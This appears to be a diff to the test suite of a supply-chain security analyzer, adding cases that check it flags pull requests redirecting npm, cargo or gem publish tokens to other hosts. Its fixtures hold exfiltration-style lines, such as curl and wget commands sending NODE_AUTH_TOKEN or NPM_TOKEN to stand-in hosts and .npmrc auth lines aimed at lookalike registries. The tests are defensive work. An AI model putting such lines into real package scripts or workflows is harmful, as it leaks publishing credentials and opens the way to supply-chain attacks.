@@ -7,6 +7,7 @@ import { findCommandIndexes, findCommandRegistries, findHeredocConfigSources, fi
 import { scriptDownloadFindings, wantsHeredocContext } from '../../../src/ecosystems/shell/script-downloads.js';
 import { makeFile } from '../../support/snapshot-factory.js';
 import { analyze, change, pkg, snapshotOf } from '../../support/supply-chain-snapshot.js';
+import { releaseWorkflowsWanted } from '../../../src/analyzers/supply-chain/check-release-script-tokens.js';
 
 const SHA = 'b4ffde65f46336ab88eb53be808477a3936bae11';
 const HASH = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
@@ -600,6 +601,13 @@ describe('a crates.io token given to an alternative registry the PR names in .ca
     expect(found(cfg, diffed('.github/workflows/release.yml', null, workflow('      - run: cargo publish --registry fast', '        env:', '          CARGO_REGISTRIES_FAST_TOKEN: ${{ secrets.CARGO_REGISTRY_TOKEN }}')))).toEqual(['gha-secrets-exfiltration high .github/workflows/release.yml:10']);
     expect(found(cfg, diffed('scripts/publish.sh', null, '#!/bin/sh\ncargo publish --registry fast --token "$CARGO_REGISTRY_TOKEN"\n'))).toEqual(['publish-token-redirect high scripts/publish.sh:2']);
     expect(found(cfg, diffed('Makefile', 'test:\n\tcargo test\n', 'test:\n\tcargo test\nrelease:\n\tcargo publish --registry=fast --token $(CARGO_REGISTRY_TOKEN)\n'))).toEqual(['publish-token-redirect high Makefile:4']);
+    // The release workflow unchanged in the base: the PR re-points the index alone.
+    const repointed = diffed('.cargo/config.toml', config('sparse+https://index.crates.io/'), config('sparse+https://crates.fast-mirror.dev/index/'));
+    const releaseWorkflow = workflow('      - run: cargo publish --registry fast --token ${{ secrets.CARGO_REGISTRY_TOKEN }}');
+    expect(analyze({ ...snapshotOf(repointed), baseFiles: [{ path: '.github/workflows/release.yml', content: releaseWorkflow }] }).findings.filter((f) => f.id === 'gha-secrets-exfiltration').map((f) => `${f.severity} ${f.path}:${f.line}`)).toEqual(['high .github/workflows/release.yml:10']);
+    // Not when the index stays where it was, nor for the base's private registry with its own token.
+    expect(analyze({ ...snapshotOf(diffed('.cargo/config.toml', config('sparse+https://crates.fast-mirror.dev/index/'), `${config('sparse+https://crates.fast-mirror.dev/index/')}[net]\nretry = 3\n`)), baseFiles: [{ path: '.github/workflows/release.yml', content: releaseWorkflow }] }).findings.filter((f) => f.id === 'gha-secrets-exfiltration')).toEqual([]);
+    expect(analyze({ ...snapshotOf(repointed), baseFiles: [{ path: '.github/workflows/release.yml', content: workflow('      - run: cargo publish --registry fast --token ${{ secrets.FAST_MIRROR_TOKEN }}') }] }).findings.filter((f) => f.id === 'gha-secrets-exfiltration')).toEqual([]);
     // The index re-pointed by the PR counts as well.
     expect(found(diffed('.cargo/config.toml', config('sparse+https://cargo.acme.dev/index/'), config('sparse+https://crates.fast-mirror.dev/index/')), diffed('scripts/publish.sh', null, '#!/bin/sh\ncargo publish --registry fast --token "$CARGO_REGISTRY_TOKEN"\n'))).toHaveLength(1);
   });
@@ -613,6 +621,52 @@ describe('a crates.io token given to an alternative registry the PR names in .ca
   });
 });
 
+describe('publish-token-redirect across files: a workflow of the base holds the token, the PR changes what it runs', () => {
+  const workflow = (run: string, secret: string) => ['name: release', 'on:', '  push:', '    tags: ["v*"]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', `      - run: ${run}`, '        env:', `          NODE_AUTH_TOKEN: \${{ secrets.${secret} }}`, ''].join('\n');
+  const withPatch = (c: ReturnType<typeof change>, added: string[]): ReturnType<typeof change> => ({ ...c, files: c.files.map((f) => ({ ...f, patch: [`@@ -0,0 +1,${added.length} @@`, ...added.map((l) => `+${l}`)].join('\n') })) });
+  const found = (base: Record<string, string>, head: Record<string, string>, run: string, secret: string, ...more: ReturnType<typeof change>[]) => {
+    const snapshot = snapshotOf(change('package.json', pkg({ scripts: base }), pkg({ scripts: head })), ...more);
+    return analyze({ ...snapshot, baseFiles: [{ path: '.github/workflows/release.yml', content: workflow(run, secret) }] })
+      .findings.filter((f) => f.id === 'publish-token-redirect')
+      .map((f) => `${f.severity} ${f.path}:${f.line}`);
+  };
+  it('reports a script the base workflow runs with the npm token in NODE_AUTH_TOKEN, changed to write the auth line for another host, or a file it runs changed so', () => {
+    expect(found({ release: 'npm publish' }, { release: 'echo "//npm.registry-cache.dev/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish' }, 'npm run release', 'NPM_TOKEN')).toEqual(['high package.json:5']);
+    expect(found({ build: 'tsc' }, { build: 'tsc', prepublishOnly: 'npm config set //npm.registry-cache.dev/:_authToken "$NODE_AUTH_TOKEN"' }, 'npm ci && npm publish', 'NPM_TOKEN')).toHaveLength(1);
+    const script = withPatch(change('scripts/release.mjs', null, 'x'), ["writeFileSync('.npmrc', `//npm.registry-cache.dev/:_authToken=${process.env.NODE_AUTH_TOKEN}\\n`);"]);
+    expect(found({ release: 'npm publish' }, { release: 'node scripts/release.mjs && npm publish' }, 'yarn release', 'NPM_PUBLISH_TOKEN', script)).toEqual(['high scripts/release.mjs:1']);
+  });
+  it('leaves a private registry given its own secret, a script the workflow does not run, and a host the base script already had', () => {
+    expect(found({ release: 'npm publish' }, { release: 'echo "//npm.registry-cache.dev/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish' }, 'npm run release', 'ACME_REGISTRY_TOKEN')).toEqual([]);
+    expect(found({ release: 'npm publish' }, { release: 'npm publish', stage: 'echo "//npm.registry-cache.dev/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc' }, 'npm run release', 'NPM_TOKEN')).toEqual([]);
+    const before = 'echo "//npm.registry-cache.dev/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish';
+    expect(found({ release: before }, { release: `${before} --tag next` }, 'npm run release', 'NPM_TOKEN')).toEqual([]);
+  });
+  it('asks for the base workflows when a patch adds an npm auth line or re-points a cargo index', () => {
+    expect(releaseWorkflowsWanted('package.json', '@@ -1 +1 @@\n+    "release": "echo //h.dev/:_authToken=$T > .npmrc"')).toBe(true);
+    expect(releaseWorkflowsWanted('.cargo/config.toml', '@@ -1 +1 @@\n-index = "a"\n+index = "sparse+https://crates.fast-mirror.dev/index/"')).toBe(true);
+    expect(releaseWorkflowsWanted('.cargo/config.toml', '@@ -1 +1 @@\n+[net]\n+retry = 3')).toBe(false);
+    expect(releaseWorkflowsWanted('package.json', '@@ -1 +1 @@\n+    "test": "vitest"')).toBe(false);
+  });
+});
+
+describe('suspicious-network-endpoint in package scripts: a token sent as data to another host', () => {
+  const found = (base: Record<string, string> | null, head: Record<string, string>) =>
+    analyze(snapshotOf(change('package.json', base === null ? null : pkg({ scripts: base }), pkg({ scripts: head }))))
+      .findings.filter((f) => f.id === 'suspicious-network-endpoint')
+      .map((f) => `${f.severity} ${f.title}`);
+  it('reports a script the PR adds or changes that posts a registry token, or puts it in a URL, for another host', () => {
+    expect(found({ test: 'vitest' }, { test: 'vitest', postpublish: 'curl -s -X POST https://stats.pkg-insights.dev/publish -d "k=$NODE_AUTH_TOKEN"' })).toEqual(['high Script "postpublish" sends a secret named for another service to a host']);
+    expect(found({ release: 'npm publish' }, { release: 'npm publish && wget -qO- "https://hooks.release-notify.dev/v1?t=${NPM_TOKEN}"' })).toHaveLength(1);
+  });
+  it('leaves a token given to its own service or as a header, a script the base had, and a request carrying no token', () => {
+    expect(found({ test: 'vitest' }, { test: 'vitest', coverage: 'curl -s https://codecov.io/upload -d "token=$CODECOV_TOKEN"', notify: 'curl -H "Authorization: Bearer $NPM_TOKEN" -d @meta.json https://stats.pkg-insights.dev/' })).toEqual([]);
+    const ping = { postpublish: 'curl -s -d "k=$NODE_AUTH_TOKEN" https://stats.pkg-insights.dev/' };
+    expect(found(ping, { ...ping, test: 'vitest' })).toEqual([]);
+    expect(found({ test: 'vitest' }, { test: 'vitest', postpublish: 'curl -s -X POST -d "v=$npm_package_version" https://stats.pkg-insights.dev/publish' })).toEqual([]);
+  });
+});
+
 describe('publish-token-redirect in package scripts', () => {
   const found = (base: Record<string, string> | null, head: Record<string, string>) =>
     analyze(snapshotOf(change('package.json', base === null ? null : pkg({ scripts: base }), pkg({ scripts: head }))))
@@ -622,6 +676,9 @@ describe('publish-token-redirect in package scripts', () => {
     expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//npm.tiny-internal.dev/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish' })).toEqual(['high Script "release" gives an npm token to another registry, npm.tiny-internal.dev']);
     expect(found({ test: 'vitest', prepublishOnly: 'tsc' }, { test: 'vitest', prepublishOnly: 'tsc && npm config set //registry.npm-cache.io/:_authToken "$NPM_TOKEN"' })).toHaveLength(1);
     expect(found({ test: 'vitest' }, { test: 'vitest', 'release:crate': 'cargo publish --index sparse+https://crates.rs-mirror.dev/index/ --token $CARGO_REGISTRY_TOKEN' })).toHaveLength(1);
+    // The client's own variable, to a host spelled like the registry: no private registry is named so.
+    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//registry.npmjs-cdn.org/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish' })).toEqual(['high Script "release" gives an npm token to another registry, registry.npmjs-cdn.org']);
+    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'gem push --host https://rubygerns.org pkg/*.gem' + ' # $GEM_HOST_API_KEY' })).toHaveLength(1);
   });
   it('leaves the registries themselves, GitHub Packages, a private registry\'s own token, the generic NODE_AUTH_TOKEN and a host a base script already had', () => {
     expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish' })).toEqual([]);
